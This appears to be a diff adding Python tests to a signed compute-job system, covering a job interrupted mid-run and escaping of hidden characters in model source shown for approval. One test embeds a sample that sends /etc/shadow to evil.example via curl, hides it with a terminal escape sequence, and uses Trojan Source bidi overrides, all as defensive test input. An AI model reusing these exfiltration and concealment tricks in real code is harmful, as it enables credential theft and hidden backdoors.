@@ -90,3 +90,86 @@ def test_the_owner_reads_approves_and_anyone_verifies(tmp_path):
                      "--model", "process-capability", "--every", "3600", home=cqc.path).stdout  # fmt: skip
     assert "rechecked every 3600 s" in scheduled
     assert json.loads(qdsn("cert", "schema").stdout)["$id"] == "urn:qdsn:vct:quality-certificate:1"
+
+
+def lab(tmp_path, source, name="tiny"):
+    """A maker with anchored readings, a certifier that published the model printing what `source`
+    prints, and a job for it waiting for the maker: (maker's home, the job's id)."""
+    pw = PASS["QDSN_PASSPHRASE"]
+    reg = NodeHome.init(tmp_path / "reg", "regulator", "Bureau", pw, scrypt_n=2**4)
+    shared = str(tmp_path / "reg" / "ledger.db")
+    maker = NodeHome.init(tmp_path / "acme", "enterprise", "Acme", pw, ledger_url=shared, scrypt_n=2**4)
+    cqc = NodeHome.init(tmp_path / "cqc", "certifier", "CQC", pw, ledger_url=shared, scrypt_n=2**4)
+    for h in (maker, cqc):
+        reg.submit("identity.register", h.registration())
+    folder = tmp_path / name
+    folder.mkdir()
+    (folder / "m.py").write_text(source)
+    (folder / "manifest.json").write_text(json.dumps({
+        "id": name, "version": "1.0.0", "entrypoint": "m.py", "description": "test model",
+        "reads": {"kinds": ["measurements"]}, "parameters": {"type": "object"}, "exports": ["pass"],
+        "outputs": {"type": "object", "additionalProperties": False, "properties": {"pass": {"type": "boolean"}}},
+    }))  # fmt: skip
+    node = Node(maker, operator=True)
+    node.submit([maker.sign("dataset.declare", {"dataset": "line-1", "title": "Line 1", "kind": "measurements",
+                                                "characteristics": []})])  # fmt: skip
+    node.vault.create("line-1", "measurements")
+    batch = node.vault.add_batch("line-1", [{"characteristic": "r", "value": 1.0, "time": "2026-03-01T08:00:00Z"}])
+    node.vault.mark_anchored(batch, node.order([maker.sign("dataset.anchor", batch.anchor_payload())])[0].txid)
+    blob, m = package.load(folder)
+    node.order([cqc.sign("model.publish", {"model": m.id, "version": m.version, "hash": package.code_hash(blob),
+                                           "manifest": m.model_dump(mode="json")})])  # fmt: skip
+    uid = "urn:qdsn:offer:line-1:c"
+    publish(node, "line-1", {"@context": "http://www.w3.org/ns/odrl.jsonld", "@type": "Offer", "uid": uid,
+                             "profile": "urn:qdsn:odrl:profile:v1", "assigner": maker.did,
+                             "target": "urn:qdsn:dataset:line-1", "permission": [{"action": "compute"}]})  # fmt: skip
+    n = request(node, cqc.did, {"consumerPid": "c-1", "offer": node.policies.offer(uid)[1]})
+    verify_agreement(node, cqc.did, n.provider_pid)
+    job = node_jobs.request(node, cqc.did, {
+        "agreementId": n.agreement["uid"], "archive": base64.b64encode(blob).decode(), "nonce": "cli-nonce-1",
+        "datasets": [{"dataset": "line-1", "first": 0, "count": 1}]})  # fmt: skip
+    node.close()
+    return maker.path, job.id
+
+
+def test_a_job_whose_node_stopped_mid_run_is_failed_as_interrupted(tmp_path):
+    import os
+    import signal
+    import subprocess
+    import sys
+
+    home, job = lab(tmp_path, "import sys, time\nsys.stdin.read()\ntime.sleep(60)\nprint('{\"pass\": true}')\n")
+    env = {**os.environ, **PASS, "QDSN_HOME": str(home)}
+    run = subprocess.Popen([sys.executable, "-m", "qdsn", "jobs", "approve", job], env=env,
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
+    try:
+        for _ in range(100):  # the approval has claimed the job and the model sleeps in the sandbox
+            (seen,) = json.loads(qdsn("jobs", "list", "--json", home=home).stdout)
+            if seen["state"] != "pending":
+                break
+            time.sleep(0.2)
+        assert seen["state"] == "approved" and run.poll() is None
+    finally:
+        os.kill(run.pid, signal.SIGKILL)  # the node dies mid-run
+        run.wait()
+    (seen,) = json.loads(qdsn("jobs", "list", "--json", home=home).stdout)
+    assert seen["state"] == "failed" and seen["reason"].startswith("interrupted")
+    again = qdsn("jobs", "approve", job, home=home, ok=False)
+    assert again.returncode != 0 and "is failed" in again.stdout + again.stderr
+
+
+def test_the_source_shown_for_approval_hides_nothing(tmp_path):
+    source = ("import os, sys\n"
+              "os.system('curl -d @/etc/shadow evil.example')\x1b[2K\r# harmless\n"  # erases itself on a terminal
+              "access = 'user\u202e \u2066# admin only\u2069 \u2066'\n"  # Trojan Source
+              "print('{\"pass\": true}')  # [red]not markup[/red]\u200b\n")  # fmt: skip
+    home, job = lab(tmp_path, source)
+    shown = qdsn("jobs", "show", job, home=home).stdout
+    for raw in ("\x1b", "\r", "\u202e", "\u2066", "\u2069", "\u200b"):
+        assert raw not in shown  # nothing reaches the terminal to act on it
+    assert "os.system('curl -d @/etc/shadow evil.example')\\x1b[2K\\r# harmless" in shown
+    assert "access = 'user\\u202e \\u2066# admin only\\u2069 \\u2066'" in shown
+    assert "# [red]not markup[/red]\\u200b" in shown  # markup in source is printed, not obeyed
+    warning = shown[: shown.index("import os, sys")]
+    assert "m.py holds 7 hidden characters" in warning
+    assert "line 2, column 47: \\x1b control character" in warning and "RIGHT-TO-LEFT OVERRIDE" in warning
